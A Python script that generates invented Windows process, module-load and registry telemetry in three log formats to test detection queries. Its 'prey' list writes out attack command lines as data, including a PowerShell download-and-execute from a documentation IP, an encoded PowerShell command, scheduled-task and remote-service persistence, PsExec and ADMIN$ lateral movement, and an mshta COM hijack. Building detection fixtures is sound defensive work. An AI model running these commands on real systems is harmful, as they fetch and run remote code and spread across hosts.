#!/usr/bin/env python3
"""Makes examples/events/: invented telemetry in three shapes. Every rule of examples/ fires; each has near misses.

The same numbers come out each time. Run it from anywhere: examples/make_events.py
"""
import json
import pathlib
import random

OUT = pathlib.Path(__file__).parent / "events"
R = random.Random(20240501)
HOSTS = ["ws-014", "ws-022", "ws-031", "srv-files", "srv-jump"]
USERS = ["mara", "jonas", "ines", "tarek", "svc_backup"]
SYSTEM = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"

# (image, command line, parent image): what starts on these machines on a quiet day.
QUIET = [
    (SYSTEM + "svchost.exe", "svchost.exe -k netsvcs -p", SYSTEM + "services.exe"),
    (SYSTEM + "conhost.exe", "conhost.exe 0xffffffff -ForceV1", SYSTEM + "csrss.exe"),
    ("C:\\Program Files\\Mail\\outlook.exe", "\"C:\\Program Files\\Mail\\outlook.exe\"", EXPLORER),
    ("C:\\Program Files\\Web\\chrome.exe", "\"C:\\Program Files\\Web\\chrome.exe\" --type=renderer", "C:\\Program Files\\Web\\chrome.exe"),
    (SYSTEM + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", SYSTEM + "svchost.exe"),
    ("C:\\Program Files\\Editor\\editor.exe", "editor.exe notes.txt", EXPLORER),
    (SYSTEM + "notepad.exe", "notepad.exe C:\\Users\\mara\\todo.txt", EXPLORER),
]
# The queries' prey: (technique, image, command line, parent image).
PREY = [
    ("T1059", SYSTEM + "cmd.exe", "cmd.exe /c whoami /all", EXPLORER),
    ("T1059", SYSTEM + "cscript.exe", "cscript.exe //B C:\\Temp\\inventory.vbs", SYSTEM + "svchost.exe"),
    ("T1059", SYSTEM + "WindowsPowerShell\\v1.0\\PowerShell.exe",
     "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", SYSTEM + "cmd.exe"),
    ("T1059", SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -enc SQBFAFgAIAAoAC4ALgAuACkA", SYSTEM + "wmiprvse.exe"),
    ("T1203", SYSTEM + "cmd.exe", "cmd.exe /c start C:\\Users\\ines\\Downloads\\report.pdf", "C:\\Program Files\\Web\\CHROME.EXE"),
    ("T1203", SYSTEM + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "C:\\Program Files\\Mail\\outlook.exe"),
    ("T1053", SYSTEM + "schtasks.exe", "schtasks.exe /Create /tn Updater /tr C:\\Temp\\u.exe /sc minute", SYSTEM + "cmd.exe"),
    ("T1047", SYSTEM + "wbem\\WMIC.exe", "wmic /node:srv-files process call create \"cmd.exe /c calc\"", SYSTEM + "cmd.exe"),
    ("T1106", SYSTEM + "rundll32.exe", "rundll32.exe C:\\Temp\\x.dll,#1", SYSTEM + "cmd.exe"),
    ("T1569", SYSTEM + "sc.exe", "sc.exe \\\\srv-files create upd binPath= C:\\Temp\\u.exe", SYSTEM + "cmd.exe"),
    ("T1021", "C:\\Tools\\PsExec.exe", "psexec.exe \\\\srv-files -s ipconfig", EXPLORER),
    ("T1021", SYSTEM + "xcopy.exe", "xcopy C:\\Temp\\u.exe \\\\srv-files\\ADMIN$\\u.exe", SYSTEM + "services.exe"),
    ("T1072", "C:\\Program Files\\PDQ\\PDQDeploy.exe", "PDQDeploy.exe Deploy -Package upd -Targets ws-014", SYSTEM + "services.exe"),
]
# As near as can be without being it.
NEAR = [
    ("C:\\Temp\\cmd.exe.bak", "cmd.exe.bak /c whoami", EXPLORER),
    ("C:\\Tools\\mypowershell.exe", "mypowershell.exe IEX DownloadString", EXPLORER),
    (SYSTEM + "schtasks.exe", "schtasks.exe /query /tn Updater", EXPLORER),
    (SYSTEM + "wbem\\wmic.exe", "wmic os get caption", EXPLORER),
    (SYSTEM + "rundll32.exe", "rundll32.exe", EXPLORER),
    (SYSTEM + "sc.exe", "sc.exe query upd", EXPLORER),
    ("C:\\Tools\\psexec64.exe", "psexec64.exe \\\\srv-files -s ipconfig", EXPLORER),
    (SYSTEM + "xcopy.exe", "xcopy C:\\Temp\\u.exe \\\\srv-files\\admin\\u.exe", EXPLORER),
    ("C:\\Program Files\\PDQ\\PDQInventory.exe", "PDQInventory.exe Scan", SYSTEM + "services.exe"),
    ("C:\\Program Files\\Mail\\outlook.exe", "outlook.exe", "C:\\Program Files\\Web\\chrome.exe"),
]


class Clock:
    def __init__(self):
        self.ms = 1714550400000  # 2024-05-01T08:00:00Z

    def tick(self):
        self.ms += R.randrange(120, 9000)
        s, ms = divmod(self.ms, 1000)
        day, rest = divmod(s - 1714521600, 86400)
        return "2024-05-%02d" % (1 + day), "%02d:%02d:%02d.%03d" % (rest // 3600, rest // 60 % 60, rest % 60, ms)


CLOCK = Clock()


def base(path):
    return path.rsplit("\\", 1)[-1]


def guid():
    return "{%08X-%04X-%04X-%04X-%012X}" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))


def ecs(image, command, parent, more=None):
    day, at = CLOCK.tick()
    user = R.choice(USERS)
    e = {
        "@timestamp": f"{day}T{at}Z",
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "start"},
        "host": {"name": R.choice(HOSTS), "os": {"type": "windows"}},
        "user": {"name": user, "domain": "EXAMPLE"},
        "process": {"pid": R.randrange(400, 20000), "name": base(image), "executable": image, "command_line": command,
                    "args": command.split(), "parent": {"name": base(parent), "executable": parent}},
    }
    for name, value in (more or {}).items():
        e[name] = {**e.get(name, {}), **value} if isinstance(value, dict) else value
    return e


def sysmon(event_id, data, shape):
    day, at = CLOCK.tick()
    host = R.choice(HOSTS)
    data = {"RuleName": "-", "UtcTime": f"{day} {at}", **data}
    number = R.randrange(10000, 99999)
    if shape == "flat":
        return {"@timestamp": f"{day}T{at}Z", "EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational",
                "SourceName": "Microsoft-Windows-Sysmon", "Hostname": host + ".example.org", "RecordNumber": number,
                **data, "Message": "invented for libquery"}
    return {"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
        "EventID": event_id, "Level": 4, "TimeCreated": {"#attributes": {"SystemTime": f"{day}T{at}Z"}},
        "EventRecordID": number, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host + ".example.org"},
        "EventData": data}}


def started(image, command, parent, shape):
    if shape == "ecs":
        return ecs(image, command, parent)
    return sysmon(1, {"ProcessGuid": guid(), "ProcessId": str(R.randrange(400, 20000)), "Image": image,
                      "CommandLine": command, "CurrentDirectory": "C:\\Windows\\", "User": "EXAMPLE\\" + R.choice(USERS),
                      "ParentImage": parent, "ParentCommandLine": base(parent)}, shape)


def loaded(image, module, shape):
    if shape == "ecs":
        e = ecs(image, base(image), SYSTEM + "services.exe")
        e["event"].update(category=["library"], action="load")
        e["file"] = {"path": module, "name": base(module), "extension": "dll"}
        return e
    return sysmon(7, {"ProcessGuid": guid(), "ProcessId": "4312", "Image": image, "ImageLoaded": module, "Signed": "false"}, shape)


def registry(path, details, shape):
    if shape == "ecs":
        return ecs(SYSTEM + "reg.exe", "reg.exe add", EXPLORER,
                   {"event": {"category": ["registry"], "type": ["change"], "action": "modification"},
                    "registry": {"path": path, "data": {"type": "REG_SZ", "strings": [details]}}})
    return sysmon(13, {"EventType": "SetValue", "ProcessGuid": guid(), "ProcessId": "991", "Image": SYSTEM + "reg.exe",
                       "TargetObject": path, "Details": details}, shape)


def dropped(name, parent):
    path = "C:\\Users\\ines\\Downloads\\" + name
    return ecs("C:\\Program Files\\Zip\\zip.exe", "zip.exe x", parent,
               {"event": {"category": ["file"], "type": ["creation"], "action": "creation"},
                "file": {"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]}})


def malware(name):
    return ecs("C:\\Program Files\\Sensor\\sensor.exe", "sensor.exe", SYSTEM + "services.exe",
               {"event": {"kind": "alert", "category": ["malware"], "type": ["info"]}, "file": {"name": name}})


def events(shape, quiet):
    """In order of time: what happens is shuffled first and dated afterwards."""
    out = [(started, i, c, p, shape) for _, i, c, p in PREY] + [(started, i, c, p, shape) for i, c, p in NEAR]
    out += [(loaded, SYSTEM + "rundll32.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape),
            (loaded, SYSTEM + "rundll32.exe", SYSTEM + "shell32.dll", shape),
            (loaded, SYSTEM + "svchost.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape)]
    clsid = "HKU\\S-1-5-21-1\\Software\\Classes\\CLSID\\{0f9a}\\LocalServer32\\(Default)"
    out += [(registry, clsid, "C:\\Windows\\System32\\mshta.exe http://198.51.100.7/h", shape),
            (registry, clsid, "C:\\Program Files\\Editor\\editor.exe", shape),
            (registry, "HKLM\\Software\\CLSID", "cmd.exe", shape)]
    if shape == "ecs":
        out += [(malware, "acrobat.exe"), (malware, "Firefox.exe"), (malware, "reader.exe"),
                (dropped, "invoice.lnk", EXPLORER), (dropped, "invoice.vbs", "C:\\Program Files\\Mail\\OUTLOOK.EXE"),
                (dropped, "invoice.pdf", EXPLORER), (dropped, "setup.exe", "C:\\Windows\\System32\\services.exe"),
                (ecs, SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
                    {"user": {"name": "svc_backup"}, "source": {"ip": "10.20.30.40"}}),
                (ecs, SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
                    {"user": {"name": "svc_backup"}, "source": {"ip": "203.0.113.9"}})]
    out += [(started, *R.choice(QUIET), shape) for _ in range(quiet)]
    R.shuffle(out)
    return [make(*arguments) for make, *arguments in out]


def main():
    OUT.mkdir(exist_ok=True)
    for name, shape, quiet in (("ecs.ndjson", "ecs", 140), ("windows.ndjson", "flat", 150)):
        lines = [json.dumps(e, separators=(",", ":")) for e in events(shape, quiet)]
        (OUT / name).write_text("\n".join(lines) + "\n")
    (OUT / "evtx.json").write_text("".join(json.dumps(e, indent=2) + "\n" for e in events("evtx", 40)))


if __name__ == "__main__":
    main()
